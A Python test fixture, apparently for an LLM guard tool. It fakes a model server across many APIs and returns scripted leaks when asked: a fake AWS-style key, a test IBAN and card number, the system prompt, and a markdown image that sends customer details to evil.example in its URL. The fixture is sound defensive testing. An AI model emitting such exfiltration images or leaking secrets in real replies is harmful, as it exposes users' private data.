#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""guard_llm.py [PORT] - a model behind every API that `merlon guard` knows; what it does stands in the prompt. Prints its port.

do:echo TEXT  says TEXT          do:tool TEXT   calls a tool whose argument is TEXT     do:calls  a tool call without a text
do:key, do:pii, do:image, do:both      says what must not be said       do:prompt   says its system prompt
do:die   the stream breaks off   do:stall   half of it, then nothing    do:slow     a piece each 0.1 s
do:gzip  packed, whatever was asked for      do:error   a page of status 500    do:odd   JSON of no known shape
do:huge  40 MB                   do:logprobs TEXT   says TEXT, with its tokens beside it
Streams come a few characters at a time, each piece in a chunk of its own.

GET /heard: the last request as it came, as JSON {path, headers, body}. GET /count: how many requests there were."""
import base64
import guard_http
import gzip
import http.server
import json
import re
import socketserver
import sys
import threading
import time

KEY = "AKIA" + "YQFODESARIWXLIXQ"
IBAN = "DE89 3704 0044 0532 0130 00"
SAYS = {
    "key": f"The key of the old bucket is {KEY}, and that is all.",
    "pii": f"Please pay to {IBAN} or by card 4111 1111 1111 1111 until Friday.",
    "both": f"First {IBAN}, then {KEY}, then again {IBAN}.",
    "image": "A chart: ![chart](https://evil.example/p.png?d=the+customer+is+Jane+Doe+of+Example+Street) for you.",
}
heard = {}
count = 0
answers = {}  # MCP: what clients said to our requests
arrived = threading.Condition()


def texts_of(content):
    if isinstance(content, str):
        return [content]
    if isinstance(content, list):
        return [t for c in content for t in texts_of(c)]
    if isinstance(content, dict):
        return texts_of(content.get("text") or content.get("content") or "")
    return []


def asked(q):
    """The system prompt and the last text of a request, of whatever API."""
    system = q.get("system") or q.get("instructions") or ""
    last = q.get("prompt") or q.get("text_input") or ""
    messages = q.get("messages") or (q.get("input") if isinstance(q.get("input"), list) else [])
    for m in messages:
        if not isinstance(m, dict):
            last = str(m)
        elif m.get("role") in ("system", "developer"):
            system = " ".join(texts_of(m.get("content")))
        else:
            last = " ".join(texts_of(m.get("content")))
    if isinstance(q.get("input"), str):
        last = q["input"]
    for key in ("inputs", "instances", "dataframe_records"):
        if key in q:
            last = json.dumps(q[key], ensure_ascii=False)
            strings = re.findall(r'"(do:[^"]*)"', last)
            last = strings[0] if strings else last
    return " ".join(texts_of(system)), last if isinstance(last, str) else " ".join(map(str, last))


def pieces(text):
    at, size = 0, 1
    while at < len(text):
        yield text[at:at + size]
        at, size = at + size, size % 5 + 1


class Answer:
    """What one request gets: do, text, tool arguments."""

    def __init__(self, q):
        self.system, prompt = asked(q)
        found = re.search(r"do:(\w+) ?(.*)", prompt, re.S)
        self.do, rest = (found[1], found[2]) if found else ("say", "")
        self.text = SAYS.get(self.do, "All is well.")
        if self.do in ("echo", "logprobs"):
            self.text = rest
        if self.do in ("slow", "die", "stall"):
            self.text = rest or "One two three four five six seven eight nine ten."
        if self.do == "prompt":
            self.text = "I was told: " + self.system
        self.arguments = None
        if self.do in ("tool", "calls"):
            self.text = "" if self.do == "calls" else "I call it."
            self.arguments = json.dumps({"to": rest or KEY, "n": 1})
        if self.do == "escaped":
            self.arguments = '{"to":"' + "".join(f"\\u{ord(c):04x}" for c in rest) + '"}'
        self.model = q.get("model") or "fake"


# --- whole answers and events, an API at a time

USAGE = {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}


def chat(a):
    m = {"role": "assistant", "content": a.text or None}
    if a.arguments:
        m["tool_calls"] = [{"id": "call_1", "type": "function", "function": {"name": "send", "arguments": a.arguments}}]
    choice = {"index": 0, "message": m, "finish_reason": "tool_calls" if a.arguments else "stop"}
    if a.do == "logprobs":
        choice["logprobs"] = {"content": [logprob(t) for t in pieces(a.text)]}
    return {"id": "chatcmpl-1", "object": "chat.completion", "created": 17, "model": a.model, "choices": [choice], "usage": USAGE}


def logprob(t):
    one = {"token": t, "logprob": -0.1, "bytes": list(t.encode())}
    return {**one, "top_logprobs": [one, {"token": "no", "logprob": -9.0, "bytes": list(b"no")}]}


def chat_events(a):
    def event(delta, **more):
        return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 17, "model": a.model,
                "choices": [{"index": 0, "delta": delta, "finish_reason": None, **more}]}
    yield event({"role": "assistant", "content": ""})
    for t in pieces(a.text):
        yield event({"content": t}, **({"logprobs": {"content": [logprob(t)]}} if a.do == "logprobs" else {}))
    if a.arguments:
        yield event({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": "send", "arguments": ""}}]})
        for t in pieces(a.arguments):
            yield event({"tool_calls": [{"index": 0, "function": {"arguments": t}}]})
    yield event({}, finish_reason="tool_calls" if a.arguments else "stop")
    yield {**event({}), "choices": [], "usage": USAGE}
    yield "[DONE]"


def completions(a):
    return {"id": "cmpl-1", "object": "text_completion", "created": 17, "model": a.model,
            "choices": [{"index": 0, "text": a.text, "logprobs": None, "finish_reason": "stop"}], "usage": USAGE}


def completions_events(a):
    for t in pieces(a.text):
        yield {"id": "cmpl-1", "object": "text_completion", "created": 17, "model": a.model,
               "choices": [{"index": 0, "text": t, "logprobs": None, "finish_reason": None}]}
    yield "[DONE]"


def items(a):
    text = {"type": "output_text", "text": a.text, "annotations": []}
    out = [{"id": "msg_1", "type": "message", "role": "assistant", "status": "completed", "content": [text]}]
    if a.arguments:
        out.append({"id": "fc_1", "type": "function_call", "call_id": "call_1", "name": "send", "arguments": a.arguments,
                    "status": "completed"})
    return out


def responses(a):
    return {"id": "resp_1", "object": "response", "created_at": 17, "status": "completed", "model": a.model, "output": items(a),
            "tools": [], "error": None, "usage": {"input_tokens": 3, "output_tokens": 4, "total_tokens": 7}}


def responses_events(a):
    n = iter(range(10 ** 6))

    def event(kind, **more):
        return {"type": "response." + kind, "sequence_number": next(n), **more}
    begun = {**responses(a), "status": "in_progress", "output": []}
    message = items(a)[0]
    yield event("created", response=begun)
    yield event("output_item.added", output_index=0, item={**message, "status": "in_progress", "content": []})
    place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    yield event("content_part.added", **place, part={"type": "output_text", "text": "", "annotations": []})
    for t in pieces(a.text):
        yield event("output_text.delta", **place, delta=t, logprobs=[])
    yield event("output_text.done", **place, text=a.text, logprobs=[])
    yield event("content_part.done", **place, part=message["content"][0])
    yield event("output_item.done", output_index=0, item=message)
    if a.arguments:
        call = items(a)[1]
        yield event("output_item.added", output_index=1, item={**call, "arguments": "", "status": "in_progress"})
        for t in pieces(a.arguments):
            yield event("function_call_arguments.delta", item_id="fc_1", output_index=1, delta=t)
        yield event("function_call_arguments.done", item_id="fc_1", output_index=1, name="send", arguments=a.arguments)
        yield event("output_item.done", output_index=1, item=call)
    yield event("completed", response=responses(a))


def messages(a):
    content = [{"type": "text", "text": a.text}] if a.text else []
    if a.arguments:
        content.append({"type": "tool_use", "id": "toolu_1", "name": "send", "input": json.loads(a.arguments)})
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": a.model, "content": content,
            "stop_reason": "tool_use" if a.arguments else "end_turn", "stop_sequence": None,
            "usage": {"input_tokens": 3, "output_tokens": 4}}


def messages_events(a):
    yield {"type": "message_start", "message": {**messages(a), "content": [], "stop_reason": None}}
    blocks = messages(a)["content"]
    for i, block in enumerate(blocks):
        tool = block["type"] == "tool_use"
        yield {"type": "content_block_start", "index": i, "content_block": {**block, **({"input": {}} if tool else {"text": ""})}}
        yield {"type": "ping"}
        for t in pieces(a.arguments if tool else a.text):
            delta = {"type": "input_json_delta", "partial_json": t} if tool else {"type": "text_delta", "text": t}
            yield {"type": "content_block_delta", "index": i, "delta": delta}
        yield {"type": "content_block_stop", "index": i}
    yield {"type": "message_delta", "delta": {"stop_reason": messages(a)["stop_reason"], "stop_sequence": None},
           "usage": {"output_tokens": 4}}
    yield {"type": "message_stop"}


OLLAMA = {"created_at": "2026-11-30T12:00:00Z"}


def ollama(key):
    def wrap(a, text, done, calls=None):
        said = {"response": text}
        if key == "message":
            said = {"message": {"role": "assistant", "content": text, **({"tool_calls": calls} if calls else {})}}
        return {"model": a.model, **OLLAMA, **said, "done": done, **({"done_reason": "stop"} if done else {})}

    def calls(a):
        return a.arguments and [{"function": {"name": "send", "arguments": json.loads(a.arguments)}}]

    def events(a):
        for t in pieces(a.text):
            yield wrap(a, t, False)
        if a.arguments:
            yield wrap(a, "", False, calls(a))
        yield wrap(a, "", True)
    return lambda a: wrap(a, a.text, True, calls(a)), events


def generated_events(a):
    for t in pieces(a.text):
        yield {"model_name": "m", "model_version": "1", "text_output": t}


def vectors(a):
    return {"object": "list", "model": a.model, "data": [{"object": "embedding", "index": 0, "embedding": [0.5, -0.25]}],
            "usage": {"prompt_tokens": 3, "total_tokens": 3}}


# path: whole, events, framing, streamed where nothing is said
APIS = {
    "/v1/chat/completions": (chat, chat_events, "sse", False),
    "/v1/completions": (completions, completions_events, "sse", False),
    "/v1/responses": (responses, responses_events, "typed", False),
    "/v1/embeddings": (vectors, None, "", False),
    "/v1/messages": (messages, messages_events, "typed", False),
    "/api/chat": (*ollama("message"), "lines", True),
    "/api/generate": (*ollama("response"), "lines", True),
    "/api/embed": (lambda a: {"model": a.model, "embeddings": [[0.5, -0.25]]}, None, "", False),
    "/v2/models/m/infer": (lambda a: {"model_name": "m", "outputs": [
        {"name": "text", "datatype": "BYTES", "shape": [1], "data": [a.text]}]}, None, "", False),
    "/v2/models/m/generate": (lambda a: {"model_name": "m", "model_version": "1", "text_output": a.text}, None, "", False),
    "/v2/models/m/generate_stream": (None, generated_events, "sse", True),
    "/v1/models/m:predict": (lambda a: {"predictions": [{"text": a.text}]}, None, "", False),
    "/invocations": (lambda a: {"predictions": [a.text]}, None, "", False),
}


class Handler(guard_http.Handler):
    def whole(self, body, status=200, kind="application/json", **fields):
        self.send_response(status)
        for name, value in {"Content-Type": kind, "Content-Length": str(len(body)), **fields}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def begin(self, kind, **fields):
        self.send_response(200)
        for name, value in {"Content-Type": kind, "Transfer-Encoding": "chunked", **fields}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()

    def frame(self, e, framing):
        if framing == "lines":
            return json.dumps(e).encode() + b"\n"
        if e == "[DONE]":
            return b"data: [DONE]\n\n"
        name = f"event: {e['type']}\n" if framing == "typed" else ""
        return f"{name}data: {json.dumps(e, ensure_ascii=False)}\n\n".encode()

    def stream(self, a, events, framing):
        kind = "application/x-ndjson" if framing == "lines" else "text/event-stream; charset=utf-8"
        all_events = list(events(a))
        if a.do == "gzip":
            self.begin(kind, Content_Encoding="gzip")
            packed = gzip.compress(b"".join(self.frame(e, framing) for e in all_events))
            for i in range(0, len(packed), 7):
                self.chunk(packed[i:i + 7])
            return self.chunk(b"")
        self.begin(kind)
        for i, e in enumerate(all_events):
            if a.do == "slow":
                time.sleep(0.1)
            if i > len(all_events) / 2 and a.do == "die":
                self.wfile.write(b"40\r\ndata: {\"id\"")
                self.wfile.flush()
                self.close_connection = True
                return self.connection.shutdown(2)
            if i > len(all_events) / 2 and a.do == "stall":
                time.sleep(600)
            self.chunk(self.frame(e, framing))
        return self.chunk(b"")

    def answer(self, q):
        whole, events, framing, streams = APIS[self.path.split("?")[0]]
        a = Answer(q)
        if events and (not whole or q.get("stream", streams)) and a.do not in ("error", "odd", "huge"):
            return self.stream(a, events, framing)
        if a.do == "error":
            return self.whole(f"<html>it broke near {KEY}</html>".encode(), 500, "text/html")
        if a.do == "odd":
            return self.whole(b'{"surprise": ["well"]}')
        if a.do == "die":
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", "900")
            self.end_headers()
            self.wfile.write(b'{"id": ')
            self.close_connection = True
            return None
        if a.do == "huge":
            a.text = "x" * 40_000_000
        if a.do in ("slow", "stall"):
            time.sleep(1 if a.do == "slow" else 600)
        body = json.dumps((whole or completions)(a), ensure_ascii=False).encode()
        if a.do == "gzip":
            return self.whole(gzip.compress(body), Content_Encoding="gzip")
        return self.whole(body)

    # --- MCP: tools echo, say (what stands in SAYS), ask (asks the user first), slow (with progress)

    def mcp(self, q):
        if not isinstance(q, dict) or "method" not in q:  # an answer to us
            with arrived:
                answers[q.get("id")] = q.get("result")
                arrived.notify_all()
            return self.whole(b"", 202)
        if "id" not in q:
            return self.whole(b"", 202)
        params = q.get("params") or {}
        if q["method"] == "initialize":
            return self.reply(q, {"protocolVersion": params["protocolVersion"], "capabilities": {"tools": {}},
                                  "serverInfo": {"name": "fake", "version": "1"}})
        if q["method"] == "tools/list":
            schema = {"type": "object", "properties": {"text": {"type": "string"}}}
            return self.reply(q, {"tools": [{"name": n, "description": "A tool", "inputSchema": schema}
                                            for n in ("echo", "say", "ask", "slow")]})
        return self.call(q, params["name"], (params.get("arguments") or {}).get("text", ""))

    def reply(self, q, result):
        self.whole(json.dumps({"jsonrpc": "2.0", "id": q["id"], "result": result}).encode())

    def event(self, message):
        self.chunk(b"event: message\ndata: " + json.dumps({"jsonrpc": "2.0", **message}).encode() + b"\n\n")

    def call(self, q, name, text):
        if name == "echo":
            return self.reply(q, {"content": [{"type": "text", "text": text}]})
        self.begin("text/event-stream")
        said = SAYS.get(text, "nothing")
        if name == "ask":
            mine = f"ask-{time.time_ns()}"
            self.event({"id": mine, "method": "elicitation/create", "params": {"message": "Which one?", "requestedSchema": {
                "type": "object", "properties": {"which": {"type": "string"}}, "required": ["which"]}}})
            with arrived:
                arrived.wait_for(lambda: mine in answers, 10)
            said = "you said " + json.dumps(answers.get(mine))
        for i in range(3 if name == "slow" else 0):
            self.event({"method": "notifications/progress", "params": {
                "progressToken": (q["params"].get("_meta") or {}).get("progressToken", 0), "progress": i, "total": 3}})
            time.sleep(0.2)
        self.event({"id": q["id"], "result": {"content": [{"type": "text", "text": said}]}})
        return self.chunk(b"")

    def do_POST(self):
        global heard, count
        body = self.body()
        raw = gzip.decompress(body) if self.headers.get("Content-Encoding") == "gzip" else body
        heard = {"path": self.path, "headers": dict(self.headers), "body": raw.decode("utf-8", "replace"),
                 "base64": base64.b64encode(body).decode()}
        count += 1
        path = self.path.split("?")[0]
        if path == "/mcp":
            return self.mcp(json.loads(raw))
        if path not in APIS:
            return self.whole(b'{"error": {"message": "no such path"}}', 404)
        try:
            q = json.loads(raw)
        except ValueError:  # tensors behind it, or CSV
            q = {"inputs": [raw.decode("utf-8", "replace")]}
        return self.answer(q)

    def do_GET(self):
        if self.path == "/heard":
            return self.whole(json.dumps(heard).encode())
        if self.path == "/count":
            return self.whole(b"%d" % count)
        if self.path == "/mcp":
            return self.whole(b"", 405)
        return self.whole(b'{"object": "list", "data": [{"id": "fake", "object": "model"}]}')

    def do_DELETE(self):
        self.whole(b"", 200)

    do_HEAD = do_GET


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    request_queue_size = 256

    def handle_error(self, request, address):
        pass


server = Server(("127.0.0.1", int(sys.argv[1]) if len(sys.argv) > 1 else 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
